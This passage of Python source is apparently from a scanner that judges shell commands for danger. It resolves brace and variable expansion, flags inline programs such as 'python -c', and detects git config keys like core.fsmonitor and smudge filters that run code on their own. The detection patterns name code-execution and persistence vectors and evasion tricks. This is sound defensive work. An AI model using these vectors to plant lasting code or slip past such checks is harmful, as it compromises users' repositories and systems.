    if not first.quoted and re.fullmatch(r"\{[^{}\s]*,[^{}\s]*\}", first.text):
        parts = [Word(p) for p in first.text[1:-1].split(",")]
        cmd.words[0:1] = parts
        return
    if first.proc is None and first.text == "$(...)" and len(first.subs) == 1:
        inner = walk(first.subs[0])
        if len(inner) == 1 and inner[0].words and inner[0].words[0].text in _LOOKUP:
            operands = [w.text for w in inner[0].words[1:] if not w.text.startswith("-")]
            if operands:
                cmd.words[0] = Word(operands[0])
        return
    if "$" in first.text and "$(" not in first.text:
        cmd.words[0] = Word(_expand(first.text, state), first.quoted, first.subs)


def _expand(text: str, state: _State) -> str:
    def one(m: re.Match[str]) -> str:
        var = m.group(1) or m.group(4)
        if var in state.literals:
            return state.literals[var]
        if m.group(2) and m.group(3):
            return m.group(3)  # ${X:-default}: the attacker picks the default
        if var in ("SHELL", "BASH"):
            return "sh"
        return m.group(0)

    return _VAR_REF.sub(one, text)


def _inline_program_rules(name: str, args: list[Word], stdin_fetched: bool) -> list[str]:
    """What an inline program (``python -c``, ``node -e``, ``perl -e``, ``php -r``, …) does."""
    from skillforge.scan.programs import judge_program
    from skillforge.scan.python import scan_python

    texts = [a.text for a in args]
    flags = ("-c", "-e", "-E", "-r", "--eval", "-p", "--print", "-Command", "-command", "-c:", "/c")
    programs = [texts[i + 1] for i, t in enumerate(texts[:-1]) if t in flags or re.fullmatch(r"-[A-Za-z]*[ec]", t)]
    rules: list[str] = []
    for program in programs:
        rules += judge_program(program, stdin_fetched=stdin_fetched)
        if name in ("python", "pypy"):
            rules += [h.rule_id for h in scan_python(program) or [] if (h.severity or "high") == "high" and h.rule_id != "dynamic-exec"]
    return sorted(set(rules))


_GIT_CODE_KEYS = re.compile(r"(?i)^(?:core\.fsmonitor|filter\.[^.]+\.(?:clean|smudge|process)|diff\.[^.]+\.textconv)$")


def _git_config_runs_code(texts: list[str]) -> bool:
    """``git config core.fsmonitor ./x`` (and clean/smudge filters, textconv): a program git runs by itself
    on ordinary commands, which is how a repository plants code that outlives the session."""
    if "config" not in texts:
        return False
    rest = texts[texts.index("config") + 1 :]
    rest = [t for t in rest if not t.startswith("-")]
    if len(rest) >= 2 and _GIT_CODE_KEYS.match(rest[0]):
        return rest[0].lower() != "core.fsmonitor" or rest[1].lower() not in ("true", "false", "0", "1")
    return False
